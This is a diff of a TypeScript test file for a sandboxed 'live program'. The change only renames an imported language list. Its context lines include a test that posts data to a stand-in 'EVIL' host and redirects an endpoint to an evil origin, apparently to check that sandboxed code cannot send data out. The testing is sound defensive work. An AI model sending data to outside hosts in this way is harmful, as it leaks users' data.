@@ -10,7 +10,7 @@ import { describe, expect, test } from "vitest";
 import type { Language } from "../../src/trace/event.ts";
 import { madeOnce } from "../browser/made-once.ts";
 import { Bench } from "../browser/site/bench.ts";
-import { bothLanguages, type Reader } from "../browser/site/reader.ts";
+import { usualLanguages, type Reader } from "../browser/site/reader.ts";
 import { withSite } from "../browser/site/stage.ts";
 import type { Behaviour } from "../live/behaviours.ts";
 import { keepInPage } from "../live/broker-in-page.ts";
@@ -262,7 +262,7 @@ await attempt("own fetch", () => fetch("EVIL/fetch", { method: "POST", body: "x"
 const harmless =
   /^(model|messages|input|n|max_tokens|max_completion_tokens|max_output_tokens|store|stream|stream_options)$/;
 
-describe.each(bothLanguages)("a greedy live program in %s", (language) => {
+describe.each(usualLanguages)("a greedy live program in %s", (language) => {
   test("gets what a live program gets: its text to the reader's endpoint, under the reader's caps", async () => {
     evil().reset();
     endpoint().redirectTo = `${evil().origin}/redirected`;
